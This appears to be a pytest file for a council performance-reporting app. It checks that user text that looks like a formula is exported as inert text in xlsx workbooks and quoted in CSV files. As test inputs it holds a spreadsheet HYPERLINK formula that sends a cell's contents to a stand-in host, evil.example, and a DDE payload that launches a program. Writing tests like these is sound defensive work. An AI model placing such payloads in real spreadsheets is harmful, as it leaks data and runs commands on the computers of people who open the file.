"""Text typed by one person reaches another's spreadsheet as text, never as a formula (issue 14).

An .xlsx cell holding user text is a string cell (no `<f>` element), so the returns workbook
reads back what was written; a CSV cell of text that starts like a formula (`=`, `+`, `-`, `@`,
tab, carriage return) gets OWASP's leading quote. Numbers stay numbers in both.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
import zoneinfo
from decimal import Decimal

import pytest
import time_machine
from openpyxl import load_workbook

from performance.collection import excel
from performance.common import spreadsheets
from performance.core.calculations import Level
from performance.models import StrategicActionUpdate, Value
from performance.reports import exports as report_exports
from performance.reports import selectors as report_selectors
from performance.reports import services as report_services
from performance.reports.data import Audience, Column, Kind, Report, Table, parse_period
from reach_summit import exports as league_exports
from reach_summit.calculations import Award
from reach_summit.selectors import Table as LeagueTable
from reach_summit.selectors import TableRow
from tests.performance.collection.test_collection import build_world, enter
from tests.performance.collection.test_excel import download, fill, upload
from tests.reports.council import make_council

LONDON = zoneinfo.ZoneInfo("Europe/London")
LINK = '=HYPERLINK("http://evil.example/?"&A2,"Guidance")'
LEADS = ["=", "+", "-", "@", "\t", "\r"]


def _in_cell(lead: str) -> str:
    """A lead as a CSV cell keeps it: a carriage return as a line feed, inside the quoted cell."""
    return lead.replace("\r", "\n")


def _no_formula_in(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"a formula in {name}"


# --- unit: the helper ---------------------------------------------------------------------------


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t"], ids=repr)
def test_csv_text_quotes_text_that_starts_like_a_formula(lead):
    assert spreadsheets.csv_text(lead + "1+1") == "'" + lead + "1+1"
    assert spreadsheets.csv_text("Waste " + lead) == "Waste " + lead


def test_csv_text_quotes_a_carriage_return_and_keeps_it_inside_the_cell():
    assert spreadsheets.csv_text("\r=1+1") == "'\n=1+1"
    assert spreadsheets.csv_text("Waste\r=1+1") == "Waste\n=1+1"
    assert spreadsheets.csv_text("Waste\r\nStreets") == "Waste\nStreets"


@pytest.mark.parametrize("number", [-3, Decimal("-0.25"), -1.5, 0])
def test_csv_text_leaves_numbers_alone(number):
    assert spreadsheets.csv_text(number) == number


# --- the returns workbook -----------------------------------------------------------------------


@pytest.fixture
def _in_the_window():
    with time_machine.travel(dt.datetime(2025, 7, 4, 10, 0, tzinfo=LONDON), tick=False):
        yield


@pytest.mark.django_db
@pytest.mark.usefixtures("_in_the_window")
def test_a_comment_reaches_the_returns_workbook_as_text_and_survives_a_reupload(client):
    world = build_world()
    enter(world, "WAS 002", "9", comment="=1+1")
    data = download(client, world.users["enterer_a"])
    _no_formula_in(data)
    sheet = load_workbook(io.BytesIO(data), data_only=False)[excel.SHEET]
    header = [c.value for c in sheet[1]]
    row = next(
        r for r in sheet.iter_rows(min_row=2) if r[header.index("indicator")].value == "WAS 002"
    )
    comment = row[header.index("comment")]
    assert comment.value == "=1+1"
    assert comment.data_type == "s"

    # Re-uploaded with a new value and the comment untouched: the comment is kept.
    response = upload(client, fill(data, {"WAS 002": {"value": 10}}), mode="draft")
    assert response.status_code == 302
    value = Value.objects.get(indicator=world.indicators["WAS 002"])
    assert value.value == Decimal(10)
    assert value.comment == "=1+1"


# --- the strategic-actions report workbook ------------------------------------------------------


@pytest.mark.django_db
def test_a_progress_note_reaches_the_strategic_actions_workbook_as_text():
    make_council()
    StrategicActionUpdate.objects.update(progress=LINK)
    period = parse_period(Kind.STRATEGIC_ACTIONS, "2025/26 Q2")
    report = report_selectors.build(Kind.STRATEGIC_ACTIONS, period=period, audience=Audience.MT)
    data = report_exports.xlsx(report, report_services.draft_stamp())
    _no_formula_in(data)
    book = load_workbook(io.BytesIO(data), data_only=False)
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == LINK
    ]
    assert found, "the progress note is missing from the workbook"
    assert all(cell.data_type == "s" for cell in found)


# --- the league-table CSV -----------------------------------------------------------------------


def _league_row(team: str, score: Decimal) -> TableRow:
    return TableRow(
        position=1,
        rank=1,
        joint=False,
        team_id=1,
        team_name=team,
        team_slug="team",
        customer=Level.SUMMIT,
        financial=Level.NO_DATA,
        process=Level.BASECAMP,
        learning=Level.FIRSTBASE,
        improvements=Decimal("-1.5"),
        late_complaints=2,
        score=score,
        award=Award.NONE,
    )


@pytest.mark.parametrize("lead", LEADS, ids=repr)
def test_the_league_table_csv_quotes_a_team_name_that_starts_like_a_formula(lead):
    text = league_exports.as_csv([_league_row(lead + "SUM(A1:A9)", Decimal("-0.25"))])
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["team"] == "'" + _in_cell(lead) + "SUM(A1:A9)"
    # Negative numbers stay numbers: no quote before their minus.
    assert rows[0]["score"] == "-0.25"
    assert rows[0]["improvements"] == "-1.5"


def test_the_league_table_workbook_holds_a_team_name_as_text_and_scores_as_numbers():
    table = LeagueTable(
        period="2025/26 Q1",
        provisional=False,
        rows=(_league_row(LINK, Decimal("-0.25")),),
        top_decided_by=None,
    )
    data = league_exports.as_xlsx(table)
    _no_formula_in(data)
    book = load_workbook(io.BytesIO(data))
    # The workbook opens on "About" (issue 22); the table is the sheet named for its quarter.
    sheet = next(ws for ws in book.worksheets if ws.title.startswith("League table"))
    team, score = sheet["B2"], sheet["I2"]
    assert (team.value, team.data_type) == (LINK, "s")
    assert (score.value, score.data_type) == (-0.25, "n")


# --- the open-data CSV --------------------------------------------------------------------------


def _open_data_report(title: str) -> Report:
    table = Table(
        id="open-data",
        caption="Open data",
        columns=[
            Column("indicator", "Indicator"),
            Column("title", "Title"),
            Column("value", "Value", "number", 2),
        ],
        rows=[{"indicator": "WAS 001", "title": title, "value": Decimal("-3.50")}],
    )
    return Report(
        kind=Kind.QUARTERLY.value,
        audience=Audience.MT.value,
        period="2025/26 Q1",
        title="Quarterly report",
        committee="Management Team",
        council="Demo Borough Council",
        generated_at="2025-07-04",
        sections=[],
        open_data=table,
    )


@pytest.mark.parametrize("lead", LEADS, ids=repr)
def test_the_open_data_csv_quotes_a_title_that_starts_like_a_formula(lead):
    text = report_exports.open_data_csv(_open_data_report(lead + "cmd|' /C calc'!A0"))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["title"] == "'" + _in_cell(lead) + "cmd|' /C calc'!A0"
    assert rows[0]["indicator"] == "WAS 001"
    assert rows[0]["value"] == "-3.5"  # a negative number stays a number
